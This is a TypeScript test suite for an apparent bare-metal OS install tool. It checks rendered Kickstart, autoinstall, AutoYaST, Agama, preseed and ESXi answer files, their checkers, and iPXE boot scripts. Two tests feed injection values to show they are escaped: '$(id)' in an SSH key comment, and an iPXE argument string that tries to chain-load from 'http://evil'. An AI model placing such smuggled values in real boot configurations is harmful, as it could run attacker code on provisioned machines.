/**
 * The install families: each default template renders for a sample node
 * (compared with golden files; UPDATE_GOLDEN=1 rewrites them), passes its
 * family's checker, uses only known variables in every branch; each checker
 * rejects broken variants; the iPXE scripts carry the right kernel arguments.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { parse as parseYaml } from 'yaml';
import { BerthError } from '../../src/errors.ts';
import { bootConfig } from '../../src/installs/families/esxi/index.ts';
import { familyModule } from '../../src/installs/families/index.ts';
import { ipxeWord } from '../../src/installs/families/installer-ipxe.ts';
import { sampleInstallVars } from '../../src/installs/install-vars.ts';
import { templateProblems } from '../../src/installs/template/index.ts';
import { INSTALL_FAMILIES } from '../../src/media/media.ts';
import type { InstallFamily } from '../../src/media/media.ts';
import { DHCP_NODE, ESXI_BOOT_CFG, MEDIA, renderDefault, sampleVars, STATIC_NODE, urlsFor } from './fixtures/sample.ts';

const GOLDEN = join(import.meta.dirname, 'golden');

function golden(file: string, actual: string): void {
  const path = join(GOLDEN, file);
  if (process.env['UPDATE_GOLDEN'] === '1' || !existsSync(path)) {
    if (process.env['UPDATE_GOLDEN'] !== '1') assert.fail(`no golden file ${path}: run with UPDATE_GOLDEN=1 to write it`);
    mkdirSync(GOLDEN, { recursive: true });
    writeFileSync(path, actual);
    return;
  }
  assert.equal(actual, readFileSync(path, 'utf8'), `${file} differs from the golden file (UPDATE_GOLDEN=1 rewrites it after a deliberate change)`);
}

const EXTENSION: Record<InstallFamily, string> = {
  kickstart: 'ks.cfg',
  autoinstall: 'user-data.yaml',
  autoyast: 'autoinst.xml',
  agama: 'profile.json',
  preseed: 'preseed.cfg',
  esxi: 'ks.cfg',
};

const replaceLine = (text: string, from: RegExp, to: string) => {
  assert.match(text, from);
  return text.replace(from, to);
};

describe('each family renders its built-in template', () => {
  for (const family of INSTALL_FAMILIES) {
    test(`${family}: static node (golden), DHCP node, both pass the family's checker`, () => {
      const module = familyModule(family);
      assert.equal(module.family, family);
      const staticText = renderDefault(family, STATIC_NODE);
      const dhcpText = renderDefault(family, DHCP_NODE);
      assert.deepEqual(module.check(staticText), [], staticText);
      assert.deepEqual(module.check(dhcpText), [], dhcpText);
      golden(`${family}-static.${EXTENSION[family]}`, staticText);
      if (family === 'kickstart' || family === 'esxi') golden(`${family}-dhcp.${EXTENSION[family]}`, dhcpText);
      // Every value is the node's: the callback and the hash are in, nothing of the template language is left.
      assert.ok(staticText.includes(urlsFor(family).callback.split('/').pop()!));
      assert.doesNotMatch(staticText, /\{\{|\}\}(?!\])/);
    });

    test(`${family}: every variable path in every branch of the template is known`, () => {
      const sample = sampleInstallVars(MEDIA[family], urlsFor(family)) as unknown as Record<string, unknown>;
      assert.deepEqual(
        templateProblems(familyModule(family).defaultTemplate(MEDIA[family]), `${family} built-in template`, sample).map((p) => p.message),
        [],
      );
    });
  }

  test('kickstart: RHEL 8 names NTP servers on timezone, RHEL 9 and Fedora 33+ with timesource', () => {
    const el8 = renderDefault('kickstart', STATIC_NODE, { ...MEDIA.kickstart, distro: 'rhel', version: '8.10', name: 'rhel-8.10-x86_64' });
    assert.match(el8, /^timezone Europe\/Berlin --utc --ntpservers=10\.0\.0\.1,ntp\.example\.org$/m);
    assert.doesNotMatch(el8, /timesource/);
    assert.deepEqual(familyModule('kickstart').check(el8), []);
    const el9 = renderDefault('kickstart', STATIC_NODE);
    assert.match(el9, /^timezone Europe\/Berlin --utc\ntimesource --ntp-server=10\.0\.0\.1\ntimesource --ntp-server=ntp\.example\.org$/m);
    assert.match(renderDefault('kickstart', STATIC_NODE, { ...MEDIA.kickstart, distro: 'fedora', version: '41' }), /^timesource /m);
  });

  test('autoyast: SLES names its modules and turns registration off, Leap does neither', () => {
    const sles = renderDefault('autoyast', STATIC_NODE);
    assert.match(sles, /<product_dir>\/Module-Basesystem<\/product_dir>/);
    assert.match(sles, /<do_registration config:type="boolean">false<\/do_registration>/);
    const leap = renderDefault('autoyast', STATIC_NODE, { ...MEDIA.autoyast, distro: 'opensuse-leap', name: 'leap-15.6-x86_64' });
    assert.doesNotMatch(leap, /add-on|suse_register|<products/);
    assert.deepEqual(familyModule('autoyast').check(leap), []);
  });

  test('agama: the product id follows the media', () => {
    const id = (media: typeof MEDIA.agama) => (JSON.parse(renderDefault('agama', DHCP_NODE, media)) as { product: { id: string } }).product.id;
    assert.equal(id(MEDIA.agama), 'SLES');
    assert.equal(id({ ...MEDIA.agama, distro: 'opensuse-leap', version: '16.0' }), 'Leap_16.0');
    assert.equal(id({ ...MEDIA.agama, distro: 'opensuse-tumbleweed', version: '20250101' }), 'Tumbleweed');
  });

  test('values stay data: a key comment with quotes and $() is one quoted word everywhere', () => {
    assert.match(renderDefault('kickstart', STATIC_NODE), /^sshkey --username=root "ssh-ed25519 \S+ o'brien \\"ops\\" \$\(id\)"$/m);
    assert.match(renderDefault('esxi', STATIC_NODE), /^echo 'ssh-ed25519 \S+ o'\\''brien "ops" \$\(id\)' >> \/etc\/ssh\/keys-root\/authorized_keys$/m);
    const agama = JSON.parse(renderDefault('agama', STATIC_NODE)) as { root: { sshPublicKey: string } };
    assert.equal(agama.root.sshPublicKey, STATIC_NODE['ssh.admin_keys']);
    const ubuntu = parseYaml(renderDefault('autoinstall', STATIC_NODE)) as { autoinstall: { 'user-data': { users: { ssh_authorized_keys: string[] }[] } } };
    assert.deepEqual(ubuntu.autoinstall['user-data'].users[0]!.ssh_authorized_keys, STATIC_NODE['ssh.admin_keys']!.split('\n'));
  });

  test('familyModule refuses a family it does not know', () => {
    assert.throws(() => familyModule('windows' as InstallFamily), (e: unknown) => e instanceof BerthError && e.code === 'BERTH_CORRUPT');
  });
});

describe('kickstart checker', () => {
  const check = familyModule('kickstart').check;
  const good = renderDefault('kickstart', STATIC_NODE);
  const messages = (text: string) => check(text).map((p) => `${p.line}: ${p.message}`);

  test('%post without %end', () => {
    const broken = good.replace(/\nexit "\$rc"\n%end\n$/, '\nexit "$rc"\n');
    assert.deepEqual(messages(broken), [`${good.split('\n').findIndex((l) => l.startsWith('%post')) + 1}: %post (line ${good.split('\n').findIndex((l) => l.startsWith('%post')) + 1}) is not closed with %end before the end of the file`]);
    const early = replaceLine(good, /^(printf 'ignoredisk.*)\n%end$/m, '$1');
    assert.match(messages(early).join('\n'), /%pre \(line \d+\) is not closed with %end before %packages at line \d+/);
  });

  test('an unknown command, an unknown option, a flag with a value, a missing value', () => {
    assert.match(messages(replaceLine(good, /^skipx$/m, 'skipx\nfrobnicate --now')).join('\n'), /unknown command 'frobnicate'/);
    assert.match(messages(replaceLine(good, /^autopart --type=lvm --nohome$/m, 'autopart --type=lvm --nohome --fast')).join('\n'), /autopart: unknown option --fast \(known: --type --fstype/);
    assert.match(messages(replaceLine(good, /^skipx$/m, 'skipx --yes')).join('\n'), /skipx: unknown option --yes \(it takes no options\)/);
    assert.match(messages(replaceLine(good, /^selinux --enforcing$/m, 'selinux --enforcing=1')).join('\n'), /selinux: --enforcing takes no value/);
    assert.match(messages(replaceLine(good, /^firewall --enabled --service=ssh$/m, 'firewall --enabled --service')).join('\n'), /firewall: --service needs a value/);
    assert.deepEqual(messages(replaceLine(good, /^firewall --enabled --service=ssh$/m, 'firewall --enabled --service ssh')), [], '--option value is the same as --option=value');
  });

  test('missing rootpw, lang, keyboard or partitioning; rootpw without a password', () => {
    assert.deepEqual(messages(replaceLine(good, /^rootpw .*\n/m, '')), ['1: missing rootpw (such as rootpw --iscrypted <hash>)']);
    assert.match(messages(replaceLine(good, /^lang .*\n/m, '')).join('\n'), /missing lang/);
    assert.match(messages(replaceLine(good, /^keyboard .*\n/m, '')).join('\n'), /missing keyboard/);
    assert.match(messages(replaceLine(good, /^autopart .*\n/m, '')).join('\n'), /missing a partitioning command/);
    assert.match(messages(replaceLine(good, /^rootpw .*$/m, 'rootpw --iscrypted')).join('\n'), /rootpw: the password \(or hash with --iscrypted\) is missing/);
    assert.deepEqual(messages(replaceLine(good, /^rootpw .*$/m, 'rootpw --lock')), [], 'a locked root needs no password');
  });

  test('a command given twice, autopart with manual partitioning, quoting, stray %end, unknown sections', () => {
    assert.match(messages(replaceLine(good, /^(lang .*)$/m, '$1\nlang C.UTF-8')).join('\n'), /lang is given again \(first at line \d+\); it may appear once/);
    assert.match(messages(replaceLine(good, /^(autopart .*)$/m, '$1\npart / --size=1 --grow')).join('\n'), /autopart cannot be combined with part/);
    assert.match(messages(replaceLine(good, /^sshkey --username=root "ssh-ed25519 \S+ admin@head"$/m, 'sshkey --username=root "ssh-ed25519 AAAA')).join('\n'), /a quote \("\) is not closed on this line/);
    assert.match(messages(`${good}%end\n`).join('\n'), /%end without a section to close/);
    assert.match(messages(`${good}%postinstall\n%end\n`).join('\n'), /unknown section %postinstall/);
    assert.match(messages(replaceLine(good, /^%post --erroronfail/m, '%post --chroot')).join('\n'), /%post: unknown option --chroot/);
    assert.match(messages(replaceLine(good, /^%packages$/m, '%packages\nvim emacs')).join('\n'), /%packages: one package, @group or -exclusion per line/);
  });

  test('what anaconda takes is taken: %include, %addon, # comments, @groups with options', () => {
    const extra = `${good}\n%addon com_redhat_kdump --enable --reserve-mb=auto\n%end\n%anaconda\npwpolicy root --minlen=6\n%end\n`;
    assert.deepEqual(messages(replaceLine(extra, /^%packages$/m, '%packages --ignoremissing --excludedocs\n@core --nodefaults\n-plymouth')), []);
  });
});

describe('ESXi checker', () => {
  const check = familyModule('esxi').check;
  const good = renderDefault('esxi', STATIC_NODE);
  const messages = (text: string) => check(text).map((p) => p.message).join('\n');

  test('%end is Kickstart, not ESXi', () => {
    assert.match(messages(`${good}%end\n`), /%end is not ESXi syntax/);
  });

  test('required commands: vmaccepteula, install, rootpw, network', () => {
    assert.match(messages(replaceLine(good, /^vmaccepteula\n/m, '')), /missing vmaccepteula/);
    assert.match(messages(replaceLine(good, /^install .*\n/m, '')), /missing install/);
    assert.match(messages(replaceLine(good, /^rootpw .*\n/m, '')), /missing rootpw/);
    assert.match(messages(replaceLine(good, /^network .*\n/m, '')), /missing network/);
    assert.match(messages(replaceLine(good, /^(install .*)$/m, '$1\nupgrade --firstdisk')), /only one of install, installorupgrade and upgrade/);
  });

  test('unknown commands and options, section options, disks and hashes ESXi does not take', () => {
    assert.match(messages(replaceLine(good, /^reboot$/m, 'reboot\nautopart')), /unknown command 'autopart'/);
    assert.match(messages(replaceLine(good, /^install --disk=\S+/m, 'install --firstdisk --wipe')), /install: unknown option --wipe/);
    assert.match(messages(replaceLine(good, /^install --disk=\S+/m, 'install --disk=/dev/sda')), /ESXi does not know \/dev\/sda/);
    assert.match(messages(replaceLine(good, /^install --disk=\S+ --overwritevmfs/m, 'install --overwritevmfs')), /needs --disk=<disk> or --firstdisk/);
    assert.match(messages(replaceLine(good, /^rootpw --iscrypted \S+/m, 'rootpw --iscrypted $y$j9T$abc$def')), /not yescrypt or bcrypt/);
    assert.match(messages(replaceLine(good, /^%firstboot --interpreter=busybox/m, '%firstboot --interpreter=bash')), /--interpreter is python or busybox, not bash/);
    assert.match(messages(replaceLine(good, /^%pre --interpreter=busybox/m, '%pre --interpreter=busybox --timeout=5')), /%pre: unknown option --timeout/);
    assert.match(messages(replaceLine(good, /^network --bootproto=static/m, 'network --bootproto=manual')), /--bootproto is dhcp or static/);
  });

  test('the default DHCP render has --firstdisk (ESXi\'s rule) and the install NIC by MAC', () => {
    const dhcp = renderDefault('esxi', DHCP_NODE);
    assert.match(dhcp, /^install --firstdisk --overwritevmfs$/m);
    assert.match(dhcp, /^network --bootproto=dhcp --device=52:54:00:12:34:57$/m);
  });
});

describe('the other checkers', () => {
  test('autoinstall: YAML, #cloud-config, an autoinstall section with version 1', () => {
    const check = familyModule('autoinstall').check;
    const good = renderDefault('autoinstall', STATIC_NODE);
    assert.match(check(good.replace('#cloud-config\n', '')).map((p) => p.message).join(), /#cloud-config/);
    assert.match(check(good.replace('  version: 1', '  version: 2')).map((p) => p.message).join(), /version must be 1/);
    assert.match(check('#cloud-config\nfoo: [1\n').map((p) => p.message).join(), /^YAML: /);
    assert.match(check('#cloud-config\nusers: []\n').map((p) => p.message).join(), /no autoinstall: mapping/);
    assert.match(check(good.replace(/ {2}late-commands:\n/, '  late-commands: 3\n  unused:\n')).map((p) => p.message).join(), /late-commands must be a list/);
    const dup = check(good.replace('  locale:', '  timezone: "UTC"\n  locale:'));
    assert.match(dup.map((p) => p.message).join(), /YAML: .*unique/i);
  });

  test('autoinstall: meta-data and vendor-data served beside user-data', () => {
    const files = familyModule('autoinstall').extraFiles!({ media: MEDIA.autoinstall, urls: urlsFor('autoinstall'), vars: sampleVars('autoinstall', STATIC_NODE) });
    assert.deepEqual(Object.keys(files).sort(), ['meta-data', 'vendor-data']);
    assert.deepEqual(parseYaml(files['meta-data']!), { 'instance-id': 'berth-n3', 'local-hostname': 'n3' });
    assert.deepEqual(parseYaml(files['vendor-data']!), {});
  });

  test('autoyast: well-formed XML, a <profile> root in YaST\'s namespace, booleans that are booleans', () => {
    const check = familyModule('autoyast').check;
    const good = renderDefault('autoyast', STATIC_NODE);
    const first = (text: string) => check(text).map((p) => `${p.line}: ${p.message}`)[0] ?? '';
    assert.match(first(good.replace('</timezone>\n  </timezone>', '</timezone>\n  </timezon>')), /<\/timezon> closes <timezone> opened at line \d+/);
    assert.match(first(good.replace('<language>de_DE</language>', '<language>de & at</language>')), /'&' must start an entity/);
    assert.match(first(good.replace('<keymap>', '<keymap a="1" a="2">')), /attribute a given twice/);
    assert.match(first(good.replace('</profile>', '')), /<profile> opened at line \d+ is never closed/);
    assert.match(first(good.replace('xmlns="http://www.suse.com/1.0/yast2ns" ', '')), /needs xmlns=/);
    assert.match(first(good.replace('<confirm config:type="boolean">false</confirm>', '<confirm config:type="boolean">no</confirm>')), /must be true or false, not "no"/);
    assert.match(first(good.replace('<profile ', '<!-- a -- b -->\n<profile ')), /'--' inside a comment/);
    assert.match(first(`${good}<extra/>\n`), /a second root element <extra>/);
  });

  test('agama: JSON, a product, a root password, scripts with a name and a #! body', () => {
    const check = familyModule('agama').check;
    const good = renderDefault('agama', STATIC_NODE);
    const profile = JSON.parse(good) as Record<string, unknown>;
    const messages = (value: unknown) => check(JSON.stringify(value, null, 2)).map((p) => p.message).join('\n');
    assert.match(check(good.replace('"hostname": {', '"hostname": {,')).map((p) => p.message).join(), /^JSON: /);
    assert.match(messages({ ...profile, product: {} }), /product.id is missing/);
    assert.match(messages({ ...profile, root: {} }), /root needs a password/);
    assert.match(messages({ ...profile, scripts: { post: [{ name: 'x', body: 'echo hi' }] } }), /a body starts with #!/);
    assert.match(messages({ ...profile, scripts: { post: [{ body: '#!/bin/sh' }] } }), /every script needs a name/);
  });

  test('preseed: owner question type value, with known types', () => {
    const check = familyModule('preseed').check;
    const good = renderDefault('preseed', STATIC_NODE);
    assert.match(check(`${good}d-i netcfg/get_hostname\n`).map((p) => p.message).join(), /not a setting/);
    assert.match(check(`${good}d-i netcfg/get_hostname strin n3\n`).map((p) => p.message).join(), /unknown type "strin"/);
    assert.match(check(`${good}d-i hostname string n3\n`).map((p) => p.message).join(), /not a debconf question name/);
    const lines = good.split('\n').length;
    assert.equal(check(`${good}bad\n`)[0]!.line, lines, 'the line of the problem');
  });
});

describe('boot scripts', () => {
  const script = (family: InstallFamily, firmware: 'bios' | 'uefi' = 'uefi', kernelArgs = 'console=ttyS0,115200n8', attributes = STATIC_NODE) =>
    familyModule(family).bootScript({ media: MEDIA[family], urls: urlsFor(family), firmware, node: 'n3', kernelArgs, vars: sampleVars(family, attributes) }).ipxe;
  const kernelLine = (text: string) => text.split('\n').find((l) => l.startsWith('kernel '))!;

  test('every family: kernel and initrds from the media, retry on failure, for both firmwares', () => {
    for (const family of INSTALL_FAMILIES) {
      for (const firmware of ['bios', 'uefi'] as const) {
        const text = script(family, firmware);
        assert.ok(text.startsWith('#!ipxe\n'), family);
        assert.match(kernelLine(text), new RegExp(`^kernel --name \\S+ ${urlsFor(family).media}/`), family);
        assert.match(text, /^boot \|\| goto failed$/m);
        assert.ok(text.includes(`chain --replace --autofree ${urlsFor(family).callback}/ipxe/${firmware === 'uefi' ? 'efi' : 'pcbios'}`), `${family} ${firmware}`);
        assert.match(kernelLine(text), /console=ttyS0,115200n8$/, "the profile's own arguments last");
        assert.doesNotMatch(text, /\$|#(?!!ipxe| berth)/, 'nothing iPXE would expand or take for a comment');
      }
    }
  });

  test('every family: the whole script for both firmwares, static and DHCP node (golden)', () => {
    // One golden file per family holds its four scripts, each after a `# ---- <firmware>, <node> ----` line.
    for (const family of INSTALL_FAMILIES) {
      const variants = (['bios', 'uefi'] as const).flatMap((firmware) => [
        `# ---- ${firmware}, static node, profile arguments ----\n${script(family, firmware, 'console=ttyS0,115200n8 quiet', STATIC_NODE)}`,
        `# ---- ${firmware}, DHCP node, no profile arguments ----\n${script(family, firmware, '', DHCP_NODE)}`,
      ]);
      golden(`${family}.ipxe`, variants.join(''));
    }
    // Agama without a copy of the ISO boots the live tree's squashfs.
    const { iso: _, ...noIso } = MEDIA.agama;
    golden(
      'agama-no-iso.ipxe',
      familyModule('agama').bootScript({ media: noIso, urls: urlsFor('agama'), firmware: 'uefi', node: 'n3', kernelArgs: '', vars: sampleVars('agama', DHCP_NODE) }).ipxe,
    );
  });

  test('the arguments each installer needs', () => {
    const u = (f: InstallFamily) => urlsFor(f);
    assert.match(kernelLine(script('kickstart')), new RegExp(`initrd=initrd.img inst\\.ks=${u('kickstart').answer} inst\\.repo=${u('kickstart').media} ip=dhcp BOOTIF=01-52-54-00-12-34-56 `));
    assert.match(script('kickstart'), /^initrd --name initrd\.img http:\/\/10\.99\.0\.1:8080\/media\/rocky-9\.4-x86_64\/images\/pxeboot\/initrd\.img$/m);
    assert.ok(
      kernelLine(script('autoinstall')).includes(
        ` autoinstall ds=nocloud-net;s=${u('autoinstall').callback}/ url=${u('autoinstall').media}/ubuntu-24.04.1-live-server-amd64.iso ip=dhcp cloud-config-url=/dev/null `,
      ),
      'the ; of ds= is inside one word, which iPXE passes on as is',
    );
    assert.ok(kernelLine(script('autoyast')).includes(` autoyast=${u('autoyast').answer} install=${u('autoyast').media} self_update=0 `));
    assert.ok(kernelLine(script('agama')).includes(` root=live:${u('agama').media}/SLES-16.0-Full-x86_64.install.iso rd.neednet=1 ip=dhcp inst.auto=${u('agama').answer} inst.install_url=${u('agama').media} `));
    assert.ok(
      kernelLine(script('preseed')).includes(` auto=true priority=critical url=${u('preseed').answer} netcfg/choose_interface=52:54:00:12:34:56 hostname=n3 domain=cluster.example.org locale=de_DE.UTF-8 keymap=de `),
    );
    assert.equal(kernelLine(script('esxi')), `kernel --name mboot.efi ${u('esxi').media}/efi/boot/bootx64.efi -c ${u('esxi').callback}/boot.cfg console=ttyS0,115200n8`);
    assert.match(script('esxi', 'bios'), /^kernel --name mboot\.c32 \S+\/mboot\.c32 -c /m);
    assert.match(script('esxi', 'bios'), /^echo berth: ESXi on BIOS needs an iPXE built with COMBOOT support/m);
  });

  test("the profile's arguments cannot smuggle iPXE syntax", () => {
    const line = kernelLine(script('kickstart', 'uefi', 'quiet ${root} ; chain http://evil # x'));
    assert.ok(line.endsWith(' quiet _{root} _ chain http://evil _ x'), line);
    assert.equal(ipxeWord('ds=nocloud-net;s=http://h/'), 'ds=nocloud-net;s=http://h/');
    assert.equal(ipxeWord(';'), '_');
    assert.equal(ipxeWord('a&&b||c"d'), 'a__b__c_d');
  });

  test('Ubuntu needs the ISO itself; without a copy the script is refused with the fix', () => {
    const { iso: _, ...noIso } = MEDIA.autoinstall;
    assert.throws(
      () => familyModule('autoinstall').bootScript({ media: noIso, urls: urlsFor('autoinstall'), firmware: 'uefi', node: 'n3', kernelArgs: '', vars: sampleVars('autoinstall', DHCP_NODE) }),
      (e: unknown) => e instanceof BerthError && e.code === 'BERTH_CONFIG' && /no copy of its ISO/.test(e.message),
    );
  });
});

describe("ESXi's boot.cfg", () => {
  const urls = urlsFor('esxi');

  test('prefix is the media, paths relative, kernelopt without cdromBoot and with ks= and the install NIC', () => {
    const rewritten = bootConfig(ESXI_BOOT_CFG, urls, sampleVars('esxi', STATIC_NODE));
    golden('esxi-boot.cfg', rewritten);
    const lines = rewritten.split('\n');
    assert.ok(lines.includes(`prefix=${urls.media}`));
    assert.equal(lines.filter((l) => l.startsWith('prefix=')).length, 1);
    assert.ok(lines.includes('kernel=b.b00'));
    assert.ok(lines.includes(`kernelopt=runweasel ks=${urls.answer} netdevice=52:54:00:12:34:56 bootproto=dhcp`));
    assert.match(rewritten, /^modules=jumpstrt\.gz --- useropts\.gz --- .* --- imgpayld\.tgz$/m);
    assert.ok(lines.includes('build=8.0.2-0.0.22380479'), 'other lines unchanged');
  });

  test('a boot.cfg without kernelopt or prefix gets both', () => {
    const rewritten = bootConfig('title=x\nkernel=/b.b00\nmodules=/a --- /b\n', urls);
    assert.match(rewritten, /^title=berth: node: x\nprefix=http:\/\/\S+\nkernel=b\.b00\nmodules=a --- b\nkernelopt=runweasel ks=\S+\/ks\.cfg\n$/);
  });

  test('served beside the answer file when the server can read the media; refused when the media has none', () => {
    const module = familyModule('esxi');
    const vars = sampleVars('esxi', DHCP_NODE);
    const read: string[] = [];
    const files = module.extraFiles!({ media: MEDIA.esxi, urls, vars, mediaFile: (path) => (read.push(path), ESXI_BOOT_CFG) });
    assert.deepEqual(read, ['boot.cfg']);
    assert.deepEqual(Object.keys(files), ['boot.cfg']);
    assert.match(files['boot.cfg']!, /^kernelopt=runweasel ks=\S+ netdevice=52:54:00:12:34:57 bootproto=dhcp$/m);
    assert.deepEqual(module.extraFiles!({ media: MEDIA.esxi, urls, vars }), {}, 'no media reader: nothing to rewrite');
    assert.throws(() => module.extraFiles!({ media: MEDIA.esxi, urls, vars, mediaFile: () => undefined }), /has no boot\.cfg: it is not an ESXi installer tree/);
  });
});
